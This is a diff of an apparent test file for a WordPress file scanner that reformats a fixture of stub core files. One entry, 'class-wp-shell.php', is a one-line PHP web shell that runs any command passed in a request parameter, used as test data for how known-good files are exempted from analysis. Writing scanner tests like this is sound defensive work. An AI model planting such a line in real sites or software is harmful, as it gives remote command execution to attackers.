@@ -17,12 +17,14 @@ import urllib.parse
 from tests.support.nfw import merge_sections
 
 CORE_FILES = {
-    'index.php': b"<?php\ndefine('WP_USE_THEMES', true);\nrequire __DIR__ . '/wp-blog-header.php';\n",
+    'index.php': b"<?php\ndefine('WP_USE_THEMES', true);\n"
+                 b"require __DIR__ . '/wp-blog-header.php';\n",
     'wp-login.php': b"<?php\nrequire __DIR__ . '/wp-load.php';\n$action = 'login';\n",
     'wp-admin/about.php': b"<?php\nrequire_once __DIR__ . '/admin.php';\necho 'About';\n",
     'wp-admin/admin.php': b"<?php\nrequire_once dirname(__DIR__) . '/wp-load.php';\n",
     # stock code that the rules would flag on its own: known good must spare it the analysis
-    'wp-includes/class-wp-shell.php': b'<?php if (isset($_REQUEST["c"])) { system($_REQUEST["c"]); }\n',
+    'wp-includes/class-wp-shell.php':
+        b'<?php if (isset($_REQUEST["c"])) { system($_REQUEST["c"]); }\n',
     'wp-includes/functions.php': b"<?php\nfunction wp_die() { exit; }\n",
     'wp-content/index.php': b"<?php\n// Silence is golden.\n",
 }
